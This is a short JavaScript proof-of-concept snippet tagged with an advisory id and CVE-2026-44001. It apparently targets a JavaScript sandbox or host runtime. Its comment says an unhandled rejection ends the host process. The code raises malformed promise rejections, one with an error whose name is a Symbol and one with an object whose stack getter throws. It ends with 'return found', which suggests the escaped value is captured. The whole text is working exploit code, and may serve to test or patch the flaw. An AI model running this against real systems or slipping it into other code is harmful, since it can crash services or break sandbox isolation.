// GHSA-hw58-p9xv-2mjh CVE-2026-44001
// An unhandled rejection ends the process of the host.
new Promise((_, reject) => { const e = new Error(); e.name = Symbol(); reject(e); });
new Promise(() => { throw { get stack() { throw useObject; } }; });
await 0;
return found;
